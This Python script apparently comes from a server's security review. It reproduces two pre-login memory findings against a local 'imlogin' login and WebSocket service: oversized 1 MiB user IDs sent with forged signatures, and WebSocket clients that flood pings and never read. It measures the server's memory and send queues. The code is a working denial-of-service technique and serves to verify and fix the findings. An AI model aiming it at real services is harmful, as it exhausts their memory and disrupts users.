#!/usr/bin/env python3
"""What someone without a valid ticket can make an imlogin server hold (the two memory findings of the security
review), measured from outside: the server's RSS, the connections it still holds and the bytes queued to them.

    scripts/preauth-attacks.py --addr 127.0.0.1:8080 --pid PID [--attack big-user-ids|never-read|both]

big-user-ids: 44 POST /v1/login with a 1 MiB UserID each, from 127.0.0.1 and 127.0.0.2 in turn (failed logins,
    which the throttle counts); RSS before, at once and 70 s later (past the throttle's one-minute window).
never-read: 20 WebSocket clients with a 4 KiB receive buffer send pings for 1 s and then go silent without
    reading; 12 s later (the server's heartbeat should be 3 s) the connections the server still holds, the bytes
    queued to them (ss Send-Q) and its RSS.

Standard library only; Linux (reads /proc and runs ss).
"""

import argparse
import base64
import json
import os
import socket
import struct
import subprocess
import threading
import time


def rss_kb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS")


def post_login(host, port, source, body):
    s = socket.create_connection((host, port), timeout=30, source_address=(source, 0))
    head = (
        f"POST /v1/login HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    ).encode()
    try:
        s.sendall(head + body)
    except OSError:
        pass  # refused before the whole body was read: the answer is still there
    answer = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            answer += chunk
    except OSError:
        pass
    s.close()
    status = answer.split(b"\r\n", 1)[0].decode(errors="replace")
    return status


def big_user_ids(host, port, pid):
    before = rss_kb(pid)
    statuses = {}
    for i in range(44):
        source = "127.0.0.1" if i % 2 == 0 else "127.0.0.2"
        user_id = f"{i:04d}" + "x" * (1 << 20)
        body = json.dumps(
            {"sdkappid": 1400000000, "user_id": user_id, "user_sig": "forged", "platform": "web"}
        ).encode()
        status = post_login(host, port, source, body)
        statuses[status] = statuses.get(status, 0) + 1
    time.sleep(1)
    at_once = rss_kb(pid)
    print(f"big-user-ids: answers {statuses}")
    print(f"big-user-ids: RSS before {before / 1024:.1f} MB, after {at_once / 1024:.1f} MB", flush=True)
    time.sleep(70)
    later = rss_kb(pid)
    print(f"big-user-ids: RSS 70 s later {later / 1024:.1f} MB", flush=True)


def ws_frame(text):
    payload = text.encode()
    mask = os.urandom(4)
    masked = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    assert len(payload) < 126
    return struct.pack("!BB", 0x81, 0x80 | len(payload)) + mask + masked


def never_reading_client(host, port, holder):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect((host, port))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(
        (
            f"GET /v1/ws HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ).encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    assert b" 101 " in head.split(b"\r\n")[0], head
    s.settimeout(0.2)
    # Frames in batches: one write carries 500 pings, so the answers outrun what the client's 4 KiB takes.
    batch = b"".join(ws_frame(json.dumps({"id": i, "op": "ping"})) for i in range(500))
    until = time.monotonic() + 1.0
    while time.monotonic() < until:
        try:
            s.sendall(batch)
        except socket.timeout:
            continue  # the server stopped reading: keep trying until the second is over
        except OSError:
            break
    holder.append(s)  # silent from here on, never reading


def server_connections(port):
    out = subprocess.run(
        ["ss", "-tnH", "state", "established", f"( sport = :{port} )"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    held, queued = 0, 0
    for line in out.splitlines():
        fields = line.split()
        held += 1
        queued += int(fields[1])  # Send-Q
    return held, queued


def never_read(host, port, pid, clients=20):
    before = rss_kb(pid)
    sockets, threads = [], []
    for _ in range(clients):
        t = threading.Thread(target=never_reading_client, args=(host, port, sockets))
        t.start()
        threads.append(t)
    for t in threads:
        t.join()
    held, queued = server_connections(port)
    print(
        f"never-read: {clients} clients silent; the server holds {held} connections, "
        f"{queued / 1e6:.1f} MB queued to send, RSS {before / 1024:.1f} -> {rss_kb(pid) / 1024:.1f} MB",
        flush=True,
    )
    time.sleep(12)
    held, queued = server_connections(port)
    print(
        f"never-read: 12 s later the server holds {held} connections, {queued / 1e6:.1f} MB queued to send, "
        f"RSS {rss_kb(pid) / 1024:.1f} MB",
        flush=True,
    )
    for s in sockets:
        s.close()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--addr", required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--attack", choices=["big-user-ids", "never-read", "both"], default="both")
    a = p.parse_args()
    host, port = a.addr.rsplit(":", 1)
    port = int(port)
    if a.attack in ("never-read", "both"):
        never_read(host, port, a.pid)
    if a.attack in ("big-user-ids", "both"):
        big_user_ids(host, port, a.pid)


if __name__ == "__main__":
    main()
